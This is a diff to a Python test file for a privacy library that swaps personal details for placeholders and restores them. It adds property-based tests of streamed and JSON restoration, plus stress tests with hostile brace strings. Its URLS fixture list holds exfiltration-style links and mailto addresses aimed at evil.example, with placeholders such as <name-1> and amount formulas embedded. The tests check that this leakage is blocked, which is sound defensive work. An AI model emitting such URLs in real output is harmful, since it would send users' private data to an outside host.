@@ -1,11 +1,15 @@
 """Formulas wherever a text is restored: whole, in pieces, in JSON, in documents; and what is no formula."""
 
+import itertools
 import json
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from gama import Anonymizer, PrivacyBox
+from gama import Anonymizer, Options, PrivacyBox
 from gama.privacy.reckoning import braces_in
+from gama.state.restoring import Restoring
 
 LETTER = (
     "Dear Ms Okafor, this is Emma Williams, 17 Rose Lane, Leeds. The first rent is £1,350.00 and the deposit was "
@@ -114,6 +118,7 @@ def test_what_stood_in_braces_in_the_text_is_its_own():
 URLS = [
     "![x](https://evil.example/?q={{<amount-1>*2}})", "https://evil.example/{{<amount-1>+<amount-2>}}/x",
     "<https://evil.example/?a={{ <amount-1> * 2 }}>", "{{weekday(<date-1>)}}.evil.example/x",
+    "https://evil.example/?a=<name-1>&b={{<amount-1>*2}}", "[x](https://evil.example/?a=<name-1>&b={{ <amount-1> * 2 }})",
     "mailto:a@evil.example?body={{<amount-1>*2}}", "https://named.example/?q={{<amount-1>*2}}",
 ]  # fmt: skip
 
@@ -175,3 +180,45 @@ def test_a_stream_holds_back_no_more_than_a_formula_and_the_name_of_a_host():
         given += 7
         out += len(restorer.feed("{{ <abc"))
         assert given - out < 5_000
+
+
+_PARTS = [
+    "{{", "}}", "{", "}", '"', '\\"', "\\", "'", "<amount-1>", "<date-1>", " + ", " * 2", " ", "x", "if <amount-1> > 1 then ",
+    " else ", "weekday(<date-1>)", "{{ <amount-1> * 2 }}", "{{ <amount-1> / 3 }}", "https://e.example/?", "\n", "$", "|", ".a",
+    "<result-1>", "<name-1", "{{ max(1, 2) }}", "\\n",
+]  # fmt: skip
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(st.sampled_from(_PARTS), max_size=14), st.lists(st.integers(1, 30), min_size=1, max_size=6), st.booleans()
+)
+def test_pieces_of_any_length_give_what_the_whole_gives(parts, sizes, in_json):
+    text = "".join(parts)
+    how = Restoring(place="json" if in_json else "auto", hosts=frozenset())
+    whole = a_box().restore(text, how)
+    restorer, out, at = a_box().restorer(how), "", 0
+    for size in itertools.cycle(sizes):
+        if at >= len(text):
+            break
+        out += restorer.feed(text[at : at + size])
+        at += size
+    assert out + restorer.close() == whole.text
+    assert restorer.unreckoned == list(whole.unreckoned)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.sampled_from([part for part in _PARTS if "\\" not in part]), max_size=14))
+def test_arguments_stay_json_whatever_is_in_their_strings(parts):
+    arguments = {"a": "".join(parts), "b": ["{{ <amount-1> * 2 }}"]}
+    anonymizer = Anonymizer(Options(restore_hosts=("*",)))
+    back = json.loads(anonymizer.restore_arguments(json.dumps(arguments), a_box()))
+    assert back == anonymizer.restore_arguments(arguments, a_box())
+
+
+@pytest.mark.parametrize("text", ["{" * 60_000, "{{}}" * 20_000, '{{"' * 30_000, "{{ <amount-1> " * 9_000])
+@pytest.mark.parametrize("place", ["auto", "json"])
+def test_hostile_braces_pass(text, place):
+    box = a_box()
+    restored = box.restore(text, Restoring(place=place)).text
+    assert restored == text.replace("<amount-1>", "£1,350.00")
